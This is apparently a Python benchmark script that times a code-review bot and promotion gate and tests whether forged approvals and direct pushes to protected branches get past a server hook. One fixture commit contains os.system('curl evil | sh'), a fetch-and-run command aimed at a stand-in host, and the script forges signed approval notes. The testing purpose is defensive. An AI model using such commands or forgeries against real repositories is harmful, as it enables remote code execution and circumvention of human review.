"""Benchmark the review bot and the promotion gate (issue 6's numbers).

  - bot on a ~500-line change: wall time, the affected tests' own time, the rest;
    comments posted over 10 re-runs (duplicates must be 0);
  - gate check latency: `ect promote --dry-run` refused and granted (no tests run), and
    the in-process gate evaluation;
  - security: forged approvals accepted (unsigned, wrong key, self-approval, older
    commit, hand-edited note) and direct pushes to stage branches accepted by the hook.

Runs in a temporary directory: a bare central repository with the gate hook, two clones
with their own identities and SSH keys. `--repo PATH` reviews a change to a copy of a
real project instead of the built-in demo project.

    python scripts/bench_review.py [--repo /work/.mirror/pallets+jinja/repo] [--json]
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

from ect.review import records, signing
from ect.review.approvals import make_decision
from ect.review.diff import base_for, compute
from ect.review.gate import evaluate
from ect.review.gitcmd import Git
from ect.review.policy import from_worktree
from ect.review.promote import check as gate_check
from ect.review.store import Store
from ect.review.testing import Scenario, keygen, make_scenario

from ect.config import load_config

RULES = """require_signed = true
allowed_signers = "allowed_signers"
[tool.ect.review.forbidden]
"os.system" = "use subprocess.run"
"""


def _generated_module(index: int, lines: int) -> str:
    out = ["import os", "", ""]
    i = 0
    while len(out) < lines - 3:
        if i % 10 == 0:
            out += [f"def call_{index}_{i}(cmd):", "    return os.system(cmd)", "", ""]
        else:
            out += [f"def value_{index}_{i}(x):", f"    return x * {i} + {index}", "", ""]
        i += 1
    return "\n".join(out[: lines - 1]) + "\n"


def _change_files(root: Path, total: int, files: int = 5) -> dict[str, str]:
    """~`total` added lines over `files` new modules of the project's first package, plus one test."""
    packages = sorted(
        p.parent for p in root.glob("*/__init__.py") if not p.parent.name.startswith((".", "test"))
    )
    packages += sorted(p.parent for p in root.glob("src/*/__init__.py"))
    pkg = packages[-1] if packages else root / "pkg"
    rel = pkg.relative_to(root).as_posix()
    per = total // files
    out = {f"{rel}/bench_gen_{i}.py": _generated_module(i, per) for i in range(files)}
    module = rel.removeprefix("src/").replace("/", ".")
    out["tests/test_bench_gen.py"] = (
        f"from {module} import bench_gen_0\n\n\ndef test_gen():\n    assert bench_gen_0.value_0_1(2) == 2\n"
    )
    return out


def _setup(tmp: Path, repo: Path | None) -> Scenario:
    sc = make_scenario(tmp, review=RULES)
    if repo is not None:
        # Replace the demo project by the real one (history squashed into one base commit).
        work = tmp / "import"
        subprocess.run(["git", "clone", "-q", str(repo), str(work)], check=True, env=sc.env)
        alice = sc.clones["alice"]
        keep = {"allowed_signers", ".git"}
        for p in alice.iterdir():
            if p.name not in keep:
                subprocess.run(["git", "rm", "-rq", p.name], cwd=alice, env=sc.env, check=False)
        subprocess.run(
            ["sh", "-c", f"git -C {work} archive HEAD | tar -x -C {alice}"], check=True, env=sc.env
        )
        (alice / "ect.toml").write_text("[review]\n" + RULES.replace("[tool.ect.review.", "[review."))
        sc.git("alice", "add", "-A")
        sc.git("alice", "commit", "-q", "-m", "import")
        sc.git("alice", "push", "-q", "origin", "main")
        sc.git("bob", "pull", "-q", "origin", "main")
        if (alice / "src").is_dir():  # src layout, not installed: let its tests import it
            sc.env["PYTHONPATH"] = "src"
    return sc


def bench_bot(sc: Scenario, lines: int, reruns: int) -> dict[str, Any]:
    sc.git("alice", "checkout", "-q", "-b", "bench")
    sha = sc.commit("alice", _change_files(sc.clones["alice"], lines), "a 500-line change")
    t0 = time.perf_counter()
    proc = sc.ect("alice", "review", "bot", "--json", timeout=900)
    wall = time.perf_counter() - t0
    data = json.loads(proc.stdout)
    git = Git(sc.clones["alice"], env=sc.env)
    tests_ms = _tests_ms(sc)
    change = compute(git, git.merge_base("main", sha) or "main", sha)
    posted_later = 0
    rerun_times = []
    for _ in range(reruns):
        t = time.perf_counter()
        again = json.loads(sc.ect("alice", "review", "bot", "--json", timeout=900).stdout)
        rerun_times.append(time.perf_counter() - t)
        posted_later += len(again["posted"])
    comments = [r for r in Store(git).of_type("comment") if r.commit == sha]
    fps = [r.get("fp") for r in comments]
    return {
        "lines_added": change.line_count,
        "files": len(change.files),
        "wall_s": round(wall, 3),
        "tests_s": round(tests_ms / 1000, 3),
        "bot_s_excl_tests": round(wall - tests_ms / 1000, 3),
        "findings": len(data["findings"]),
        "posted_first_run": len(data["posted"]),
        "reruns": reruns,
        "rerun_median_s": round(statistics.median(rerun_times), 3) if rerun_times else None,
        "posted_on_reruns": posted_later,
        "duplicate_comments": len(fps) - len(set(fps)),
        "sha": sha,
    }


def _tests_ms(sc: Scenario) -> float:
    from ect.events import query

    runs = [e for e in query(sc.clones["alice"] / ".ect", kind="loop.run") if e.get("source") == "review"]
    if not runs:
        return 0.0
    return float(runs[-1].get("tests_duration_ms") or 0.0)


def _median_ms(fn: Any, n: int) -> float:
    times = []
    for _ in range(n):
        t = time.perf_counter()
        fn()
        times.append((time.perf_counter() - t) * 1000)
    return round(statistics.median(times), 1)


def _cli_ms(fn: Any, n: int) -> tuple[float, float]:
    """Median wall time and median CPU time (user+sys of the process and its git children), ms.

    CPU time does not grow when other jobs compete for the cores; wall time does."""
    walls, cpus = [], []
    for _ in range(n):
        r0 = resource.getrusage(resource.RUSAGE_CHILDREN)
        t = time.perf_counter()
        fn()
        walls.append((time.perf_counter() - t) * 1000)
        r1 = resource.getrusage(resource.RUSAGE_CHILDREN)
        cpus.append((r1.ru_utime - r0.ru_utime + r1.ru_stime - r0.ru_stime) * 1000)
    return round(statistics.median(walls), 1), round(statistics.median(cpus), 1)


def bench_gate(sc: Scenario, sha: str, n: int) -> dict[str, Any]:
    root = sc.clones["alice"]
    cfg = load_config(root)
    # the bot left blocking comments on purpose (os.system): drop them for the gate timings
    sc.commit(
        "alice",
        {
            p: t.replace("os.system(cmd)", "cmd").replace("import os\n", "")
            for p, t in _changed_texts(sc, sha).items()
        },
        "fix",
    )
    bot = sc.ect("alice", "review", "bot", timeout=900)
    if bot.returncode != 0:
        raise SystemExit(
            f"bench_review: the bot found blocking problems in the project itself:\n{bot.stdout}"
        )
    head = sc.git("alice", "rev-parse", "HEAD")
    sc.git("alice", "push", "-q", "origin", "HEAD")
    assert sc.ect("alice", "review", "push").returncode == 0

    def cli() -> subprocess.CompletedProcess[str]:
        return sc.ect("alice", "promote", head, "--to", "staging", "--dry-run")

    startup, startup_cpu = _cli_ms(lambda: sc.ect("alice", "--version"), n)
    refused_cli, refused_cpu = _cli_ms(cli, n)
    refused_code = cli().returncode
    refused_inproc = _median_ms(lambda: gate_check(root, cfg, head, "staging", sync=False), n)
    sc.git("bob", "fetch", "-q", "origin")
    assert sc.ect("bob", "review", "pull").returncode == 0
    # the server trusts a check signed by someone who is not an author: bob runs the bot too
    checked = sc.ect("bob", "review", "bot", head, "--key", str(sc.keys["bob"]), timeout=900)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    approve = sc.ect("bob", "review", "approve", head, "--key", str(sc.keys["bob"]), "--push")
    assert approve.returncode == 0, approve.stderr
    granted_cli, granted_cpu = _cli_ms(cli, n)
    granted_code = cli().returncode
    granted_inproc = _median_ms(lambda: gate_check(root, cfg, head, "staging", sync=False), n)
    t = time.perf_counter()
    real = sc.ect("alice", "promote", head, "--to", "staging")
    promote_ms = (time.perf_counter() - t) * 1000
    return {
        "startup_ms": startup,
        "startup_cpu_ms": startup_cpu,
        "refused_cpu_ms": refused_cpu,
        "granted_cpu_ms": granted_cpu,
        "load_avg_1m": round(os.getloadavg()[0], 2),
        "refused_cli_ms": refused_cli,
        "refused_exit": refused_code,
        "refused_inprocess_ms": refused_inproc,
        "granted_cli_ms": granted_cli,
        "granted_exit": granted_code,
        "granted_inprocess_ms": granted_inproc,
        "promote_with_push_ms": round(promote_ms, 1),
        "promote_exit": real.returncode,
        "head": head,
    }


def _changed_texts(sc: Scenario, sha: str) -> dict[str, str]:
    names = sc.git("alice", "diff", "--name-only", f"{sha}~1", sha).split()
    return {n: (sc.clones["alice"] / n).read_text() for n in names if n.endswith(".py")}


def bench_security(sc: Scenario, tmp: Path, trials: int) -> dict[str, Any]:
    """Each attack `trials` times against the gate; then direct pushes against the hook."""
    sc.git("alice", "checkout", "-q", "-b", "attack", "main")
    root = sc.clones["alice"]
    git = Git(root, env=sc.env)
    mallory = keygen(tmp / "mallory", "mallory")
    accepted: dict[str, int] = {}
    policy = from_worktree(git, root, load_config(root))

    def gate_counts(data: dict[str, Any], attach_to: str) -> bool:
        ref = "refs/notes/ect/approvals"
        git.run("update-ref", "-d", ref, check=False)
        blob = git.out("hash-object", "-w", "--stdin", input=(records.dumps(data) + "\n").encode()).strip()
        git.run("notes", f"--ref={ref}", "add", "-f", "-C", blob, attach_to)
        res = evaluate(
            git, Store(git), policy, attach_to, "staging", lambda b: git.maybe_rev(f"refs/heads/{b}")
        )
        return any(d.counts for d in res.decisions)

    bob = Git(sc.clones["bob"], env=sc.env)
    for i in range(trials):
        head = sc.commit("alice", {f"pkg/attack_{i}.py": f"V = {i}\n"}, f"attack {i}")
        sc.git("bob", "fetch", "-q", str(root), "+refs/heads/*:refs/remotes/alice/*")
        change = compute(git, base_for(git, policy.settings, head), head)
        attacks: dict[str, tuple[dict[str, Any], str]] = {}
        attacks["unsigned"] = (make_decision(bob, change, "approval", "", None, None), head)
        attacks["wrong key"] = (make_decision(bob, change, "approval", "", None, mallory), head)
        own = compute(git, change.base, head)
        own.authors = set()  # forge the record by hand: the CLI refuses self-approval outright
        attacks["self-approval"] = (make_decision(git, own, "approval", "", None, sc.keys["alice"]), head)
        genuine = make_decision(bob, change, "approval", "", None, sc.keys["bob"])
        newer = sc.commit("alice", {f"pkg/attack_{i}.py": f"V = {i + 1}\n"}, f"attack {i} (new)")
        attacks["older commit"] = (genuine, newer)
        edited = dict(genuine, commit=newer)
        attacks["hand-edited note"] = (edited, newer)
        for name, (data, target) in attacks.items():
            if name == "older commit":
                # attached where it belongs (the old commit) and judged for the newer head
                git.run("update-ref", "-d", "refs/notes/ect/approvals", check=False)
                blob = git.out(
                    "hash-object", "-w", "--stdin", input=(records.dumps(data) + "\n").encode()
                ).strip()
                git.run(
                    "notes", "--ref=refs/notes/ect/approvals", "add", "-f", "-C", blob, str(data["commit"])
                )
                res = evaluate(
                    git, Store(git), policy, target, "staging", lambda b: git.maybe_rev(f"refs/heads/{b}")
                )
                ok = any(d.counts for d in res.decisions)
            else:
                ok = gate_counts(data, target)
            accepted[name] = accepted.get(name, 0) + int(ok)
        # control: the genuine signed approval of the old head does count for it
        accepted.setdefault("control (genuine, must count)", 0)
        accepted["control (genuine, must count)"] += int(gate_counts(genuine, head))
        sc.git("alice", "reset", "-q", "--hard", head)
    git.run("update-ref", "-d", "refs/notes/ect/approvals", check=False)
    return {"trials": trials, "accepted": accepted, "pushes": _direct_pushes(sc, tmp)}


def _direct_pushes(sc: Scenario, tmp: Path) -> dict[str, Any]:
    """Try to move stage branches in the central repository past the hook."""
    sc.git("bob", "fetch", "-q", "origin")
    sc.git("bob", "checkout", "-q", "-B", "sneaky", "origin/main")
    sha = sc.commit("bob", {"pkg/sneaky.py": "import os\nos.system('curl evil | sh')\n"}, "sneaky")
    attempts: dict[str, list[str]] = {
        "unreviewed commit to staging": ["push", "origin", f"{sha}:refs/heads/staging"],
        "unreviewed commit to production": ["push", "origin", f"{sha}:refs/heads/production"],
        "force-push to staging": ["push", "-f", "origin", f"{sha}:refs/heads/staging"],
        "delete staging": ["push", "origin", ":refs/heads/staging"],
    }
    results: dict[str, bool] = {}
    for name, args in attempts.items():
        results[name] = sc.git_proc("bob", *args).returncode == 0
    # forged approval notes pushed first (unsigned, by a made-up reviewer), then the branch
    bob = Git(sc.clones["bob"], env=sc.env)
    store = Store(bob)
    store.append(records.make("approval", sha, time.time(), by="carol@example.com"))
    store.append(
        records.make(
            "check",
            sha,
            time.time(),
            tree=bob.tree(sha),
            outcome="pass",
            checks="pass",
            tests_run=True,
            by="ect-bot",
        )
    )
    sc.git_proc("bob", "push", "origin", "refs/notes/ect/*:refs/notes/ect/*")
    results["forged notes, then staging"] = (
        sc.git_proc("bob", "push", "origin", f"{sha}:refs/heads/staging").returncode == 0
    )
    # rewriting the central notes history
    bob.run("update-ref", "refs/notes/ect/approvals", sha)
    results["rewrite notes ref"] = (
        sc.git_proc("bob", "push", "-f", "origin", "refs/notes/ect/approvals").returncode == 0
    )
    return {
        "attempts": len(results),
        "accepted": sum(results.values()),
        "detail": {k: "ACCEPTED" if v else "rejected" for k, v in results.items()},
    }


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--repo", type=Path, help="a git repository to copy as the reviewed project")
    ap.add_argument("--lines", type=int, default=500, help="size of the reviewed change (default 500)")
    ap.add_argument("--reruns", type=int, default=10, help="bot re-runs for the duplicate check (default 10)")
    ap.add_argument("--samples", type=int, default=10, help="gate timing samples (default 10)")
    ap.add_argument("--trials", type=int, default=5, help="trials per forged-approval attack (default 5)")
    ap.add_argument("--json", action="store_true", help="print the results as JSON")
    args = ap.parse_args(argv)
    if args.repo is not None and not (args.repo / "HEAD").exists() and not (args.repo / ".git").exists():
        print(f"bench_review: not a git repository: {args.repo}", file=sys.stderr)
        return 2
    with tempfile.TemporaryDirectory(prefix="ect-bench-review-") as tmp_name:
        tmp = Path(tmp_name)
        sc = _setup(tmp, args.repo)
        bot = bench_bot(sc, args.lines, args.reruns)
        gate = bench_gate(sc, bot["sha"], args.samples)
        sec = bench_security(sc, tmp, args.trials)
    result = {
        "project": str(args.repo or "built-in demo"),
        "bot": bot,
        "gate": gate,
        "security": sec,
        "ssh_keygen": signing.NAMESPACE,
    }
    if args.json:
        print(json.dumps(result, indent=2))
        return 0
    print(f"review benchmark on {result['project']}")
    print(f"\nbot on a {bot['lines_added']}-line change ({bot['files']} files)")
    print(f"  wall time                    {bot['wall_s']:8.3f} s")
    print(f"  affected tests' own time     {bot['tests_s']:8.3f} s")
    print(f"  bot time excluding tests     {bot['bot_s_excl_tests']:8.3f} s   (target <= 5 s)")
    print(f"  findings / posted            {bot['findings']:4d} / {bot['posted_first_run']}")
    print(f"  re-runs (median time)        {bot['reruns']:4d}   ({bot['rerun_median_s']} s)")
    print(f"  comments posted on re-runs   {bot['posted_on_reruns']:4d}")
    print(f"  duplicate comments           {bot['duplicate_comments']:4d}     (target 0)")
    print(f"\ngate check (no tests to run), median of {args.samples}, load average {gate['load_avg_1m']}")
    print("                                   wall     CPU   exit  (in-process wall)")
    for label, key, extra in (
        (
            "ect promote --dry-run refused",
            "refused",
            f"{gate['refused_exit']:4d}  ({gate['refused_inprocess_ms']} ms)",
        ),
        (
            "ect promote --dry-run granted",
            "granted",
            f"{gate['granted_exit']:4d}  ({gate['granted_inprocess_ms']} ms)",
        ),
        ("ect --version (startup only)", "startup", ""),
    ):
        print(
            f"  {label:30} {gate[key + '_ms' if key == 'startup' else key + '_cli_ms']:6.1f} "
            f"{gate[key + '_cpu_ms']:6.1f} ms {extra}"
        )
    print(
        f"  {'ect promote (ff + push)':30} {gate['promote_with_push_ms']:6.1f}"
        f"        ms {gate['promote_exit']:4d}"
    )
    print(f"\nsecurity: forged approvals accepted (of {sec['trials']} each)")
    for name, count in sec["accepted"].items():
        print(f"  {name:32} {count}")
    pushes = sec["pushes"]
    print(f"\ndirect pushes to stage branches past the hook: {pushes['accepted']} of {pushes['attempts']}")
    for name, verdict in pushes["detail"].items():
        print(f"  {name:32} {verdict}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
